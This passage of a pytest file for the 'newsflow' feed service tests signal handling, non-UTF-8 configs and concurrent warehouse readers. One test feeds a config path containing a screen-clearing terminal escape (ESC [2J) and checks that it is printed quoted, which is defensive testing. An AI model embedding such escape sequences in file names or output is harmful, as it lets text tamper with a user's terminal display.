    assert (out / ".articles.zone").read_text(encoding="utf-8").strip() == "UTC"
    rows = run_read_query(store, f"SELECT count(*) FROM read_parquet('{out}/articles/*/*.parquet')",
                          allow_read=[out]).rows
    assert rows == run_read_query(store, "SELECT count(*) FROM articles").rows


# --- 11. SIGHUP under `newsflow serve` -------------------------------------------------------------------


@pytest.fixture
def serving() -> Iterator[list[subprocess.Popen[bytes]]]:
    """The services a test started; killed if the test did not stop them."""
    started: list[subprocess.Popen[bytes]] = []
    yield started
    for process in started:
        if process.poll() is None:
            process.kill()
            process.wait()


def test_sighup_stops_serve_as_sigterm_does_and_its_run_is_not_left_running(
    tmp_path: Path, server: LoopbackServer, prefect_api: str, serving: list[subprocess.Popen[bytes]],
) -> None:
    """The terminal or ssh session that started `newsflow serve` closed (SIGHUP)."""
    release = threading.Event()
    feed = [("Slow story", server.url("/slow/story.html"), datetime(2026, 11, 1, tzinfo=UTC))]
    server.add("/slow/story.html", _page_held_until(release, b"<html><body><p>late</p></body></html>"))
    server.add("/slow/rss.xml", Page(rss_feed("slow", feed), "application/rss+xml"))
    process = start_serve(tmp_path, server, prefect_api, {"slow": "/slow/rss.xml"})
    serving.append(process)
    try:
        wait_for(lambda: server.hits("/slow/story.html"), 90, "a run to be fetching the slow page")
        process.send_signal(signal.SIGHUP)
        process.wait(timeout=60)
    finally:
        release.set()
    log = (tmp_path / "serve.log").read_text(errors="replace")
    assert process.returncode in (0, 130), log[-2500:]
    config_path = tmp_path / "newsflow.toml"
    [(run_id, status)] = run_read_query(Warehouse(load_config(config_path).warehouse_path),
                                        "SELECT run_id, status FROM runs").rows
    assert status in ("failed", "cancelled"), "the interrupted run says so, not 'running'"
    flow_runs, paused = asyncio.run(served_flow_runs(prefect_api, config_path))
    [state] = [r.state for r in flow_runs if str(r.id) == run_id]
    assert state is not None and state.is_cancelled() and paused, (state, paused, log[-2500:])


# --- 12. a config file that is not UTF-8, a config path with a terminal escape ---------------------------


@pytest.mark.parametrize(("name", "content", "says"), [
    ("latin1.toml", b'# caf\xe9\n[[feeds]]\nname = "a"\nurl = "http://example.org/f"\n',
     "is not UTF-8 text (byte 0xe9 on line 1"),
    # a UTF-16 file is read since local 21 (tests/test_local21.py); one cut short by a byte is not UTF-16 text
    ("utf16.toml", "[[feeds]]\n".encode("utf-16") + b"[", "is UTF-16-LE text by its first bytes, but not throughout"),
])
def test_a_config_that_is_not_utf8_says_so_and_what_to_do(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, content: bytes, says: str
) -> None:
    """Before: `not valid TOML: 'utf-8' codec can't decode byte 0xe9 in position 5: invalid continuation byte`."""
    (tmp_path / name).write_bytes(content)
    assert cli.main(["feeds", "--config", str(tmp_path / name)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and says in err and "as UTF-8" in err, err


def test_a_config_path_with_a_terminal_escape_is_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`--config` (or $NEWSFLOW_CONFIG) holding ESC [2J: the error line cleared the screen."""
    assert cli.main(["feeds", "--config", str(tmp_path / "x\x1b[2Jy.toml")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\x1b[2J" in err, err


# --- 13. a reader holding the warehouse under `newsflow serve` ------------------------------------------


def _count_or_none(warehouse: Path, sql: str) -> int | None:
    try:
        return int(run_read_query(Warehouse(warehouse), sql).rows[0][0])
    except WarehouseError:  # a served run is writing this instant
        return None


def _holder_once_no_run_writes(warehouse: Path) -> Holder | None:
    """A reader on the file, or None while a served run writes it (a read-only open fails then)."""
    try:
        return Holder(warehouse, "read-only")
    except AssertionError:
        return None


def test_a_reader_holding_the_warehouse_under_serve_loses_nothing_and_its_runs_go_on(
    tmp_path: Path, server: LoopbackServer, prefect_api: str, serving: list[subprocess.Popen[bytes]],
) -> None:
    """DBeaver or `duckdb -readonly` open for a while beside the service: the served runs spool their
    loads (docs/concurrency.md), the service goes on, and once the reader lets go a later served run
    loads them and fetches the new entries' articles, each row once. (test_readers.py checks this for
    `newsflow run`; under `serve` no test did.)"""
    serve_stories(server, range(3))
    # A run beside the reader waits `write_patience` once, then spools (spool.commit_or_spool): 0.5 s
    # proves that as the default 5 s does, 4.5 s sooner.
    process = start_serve(tmp_path, server, prefect_api, {"courier": "/feed.xml"}, warehouse="write_patience = 0.5")
    serving.append(process)
    warehouse = load_config(tmp_path / "newsflow.toml").warehouse_path
    wait_for(lambda: _count_or_none(warehouse, "SELECT count(*) FROM articles") == 3, 120, "the first 3 articles")
    holder = wait_for(lambda: _holder_once_no_run_writes(warehouse), 60, "the reader to get the file")
    try:
        serve_stories(server, range(3, 6))  # the feed moves on while the reader holds the file
        # a served run polls the feed and spools its new entries (their articles wait for the warehouse)
        wait_for(lambda: len(list(spool_dir_for(warehouse).glob("*.spool"))) >= 3, 120,  # its start, polls, end
                 "a served run to spool its loads")
        assert process.poll() is None, "the service stopped beside a reader"
    finally:
        holder.release()
    # The spool's folder first: while it holds files (until a later run loads them) each poll is a listing,
    # not a warehouse open (~40 ms of CPU each, catalog and all: 2.8 cpu-s of this test's polling, ci49).
    wait_for(lambda: not list(spool_dir_for(warehouse).glob("*.spool"))
             and _count_or_none(warehouse, "SELECT count(*) FROM articles") == 6, 120, "a later run to load the spool")
    process.send_signal(signal.SIGTERM)
    assert process.wait(timeout=60) == 0
    # (a run SIGTERM catches as it waits out a reader stays `running` until the next run marks it
    # abandoned: docs/security.md, "Known gaps", so the runs' statuses are not checked here)
    for sql in ("SELECT count(*) - count(DISTINCT canonical_url) FROM articles",
                "SELECT count(*) - count(DISTINCT (feed_id, guid)) FROM entries",
                "SELECT count(*) FROM runs WHERE status = 'completed' AND finished_at IS NULL"):
        assert _count_or_none(warehouse, sql) == 0, sql
